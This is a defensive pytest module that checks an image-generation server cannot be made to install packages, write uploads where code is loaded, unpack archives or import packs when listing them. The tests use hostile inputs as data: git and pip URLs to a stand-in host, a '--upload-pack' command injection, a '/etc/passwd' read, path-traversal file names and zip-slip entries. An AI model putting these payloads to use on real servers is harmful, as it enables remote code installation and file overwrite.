"""Threat family 10: nothing here installs packages, nothing writes where code is read, listing runs nothing."""

import io
import re
import subprocess
import sys
import zipfile

import pytest

from tests.security.serving import ROOT, encoded, node

INSTALLS = re.compile(
    r"install|update|upgrade|pip\b|git\b|clone|registry|manager|download|reboot|restart", re.IGNORECASE
)
# What managers of other tools answer to, and what was sent to them.
KNOWN_ROUTES = [
    "/customnode/install", "/customnode/install/git_url", "/customnode/install/pip", "/customnode/update",
    "/customnode/uninstall", "/customnode/import_fail_info", "/manager/reboot", "/manager/queue/install",
    "/v2/manager/queue/install", "/manager/queue/install_model", "/externalmodel/install", "/snapshot/restore",
    "/comfyui_manager/update_comfyui", "/manager/component/save", "/manager/policy/update", "/pip/install",
    "/v2/customnode/install/git_url", "/extensions/install",
]  # fmt: skip
BODIES = [
    b"https://192.0.2.1/evil.git", b"--upload-pack=touch pwned", b"git+https://192.0.2.1/x#egg=evil",
    b"--index-url=http://192.0.2.1",
    b'{"id":"../evil","url":"file:///tmp/evil","pip":["-r/etc/passwd"],"install_type":"git-clone"}',
]  # fmt: skip


def test_no_route_installs_anything(real):
    paths = real.get("/openapi.json").json["paths"]
    assert [path for path in paths if INSTALLS.search(path)] == []
    before = code_of(real)
    for path in KNOWN_ROUTES:
        for body in BODIES:
            for method in ("POST", "GET", "PUT"):
                assert real.ask(method, path, body if method != "GET" else None).status in (404, 405), path
                assert real.ask(method, f"/api{path}", body if method != "GET" else None).status in (404, 405), path
    assert code_of(real) == before


def code_of(real):
    return {
        path: found for path, found in real.files().items() if path.startswith(("base/custom_nodes/", "base/models/"))
    }


def test_no_flag_and_no_node_does():
    told = subprocess.run(
        [sys.executable, "main.py", "--help"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout
    flags = set(re.findall(r"--[a-z-]+", told))
    assert len(flags) > 30 and [flag for flag in flags if INSTALLS.search(flag)] == []
    for folder in ("engine", "nodes"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text("utf-8")
            assert not re.search(r"\bensurepip\b|[\"']pip[\"']|pip\._internal|git clone|\[[\"']git[\"']", text), path


@pytest.mark.parametrize(
    "folder", ["custom_nodes", "custom_nodes/hostile", "models/loras", "../custom_nodes", "web", "engine"]
)
def test_no_upload_writes_where_code_or_models_are_read(real, folder):
    before = code_of(real)
    for name in ("__init__.py", "evil.py", "hostile.py", "evil.safetensors", "evil.pth"):
        for up in ("", "../", "../../", "../../../"):
            target = f"{up}{folder}/{name}"
            real.upload(b"evil", name, subfolder=f"{up}{folder}", overwrite="true")
            real.upload(b"evil", target, overwrite="true")
            real.ask("POST", f"/userdata/{encoded(target)}?overwrite=true", b"evil")
            real.ask("POST", "/userdata/evil.txt", b"evil")
            real.ask("POST", f"/userdata/evil.txt/move/{encoded(target)}?overwrite=true")
            for method in ("PUT", "POST", "DELETE", "PATCH"):
                for path in (
                    f"/extensions/hostile/{name}",
                    f"/workflow_templates/hostile/{name}",
                    f"/models/loras/{name}",
                ):
                    assert real.ask(method, path, b"evil").is_clear
            prompt = {
                "1": node("EmptyImage", width=8, height=8, batch_size=1, color=0),
                "2": node("SaveImage", images=["1", 0], filename_prefix=target),
            }
            if up:
                assert real.post("/prompt", {"prompt": prompt}).status == 400
    assert code_of(real) == before


def test_archives_are_kept_as_they_are(real):
    """Nothing unpacks what is brought in, so no name in an archive leads anywhere."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../custom_nodes/evil/__init__.py", "evil")
        archive.writestr("/tmp/evil", "evil")
    before = set(real.files())
    for name in ("pack.zip", "pack.whl", "pack.tar.gz", "pack.png"):
        assert real.upload(made.getvalue(), name).status == 200
        assert real.ask("POST", f"/userdata/{name}", made.getvalue()).status == 200
    assert {path.rpartition("/")[2] for path in set(real.files()) - before} == {
        "pack.zip",
        "pack.whl",
        "pack.tar.gz",
        "pack.png",
    }


def test_nothing_runs_when_lists_are_made(real):
    """A pack that is put there while the server runs is not imported by whatever lists packs, nodes or files."""
    mark = real.outside / "imported"
    folder = real.base / "custom_nodes" / "late"
    folder.mkdir()
    (folder / "__init__.py").write_text(f"open({str(mark)!r}, 'w').close()\nNODE_CLASS_MAPPINGS = {{}}\n")
    (folder / "install.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
    (folder / "prestartup_script.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
    (folder / "requirements.txt").write_text("--index-url http://192.0.2.1/\nevil @ file:///tmp/evil\n")
    for path in (
        "/weft/packs", "/extensions", "/object_info", "/workflow_templates", "/i18n", "/global_subgraphs",
        "/object_info/Late", "/extensions/late/__init__.py", "/workflow_templates/late/install.py",
    ):  # fmt: skip
        assert real.get(path).status < 500
    real.still_works()
    assert not mark.exists()
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()


def test_code_of_packs_is_not_sent_to_browsers(real):
    for name in ("__init__.py", "../__init__.py", "%2e%2e/__init__.py", "__pycache__/__init__.cpython-311.pyc"):
        for route in ("extensions", "workflow_templates"):
            answer = real.get(f"/{route}/hostile/{name}")
            assert answer.is_clear and b"NODE_CLASS_MAPPINGS" not in answer.body
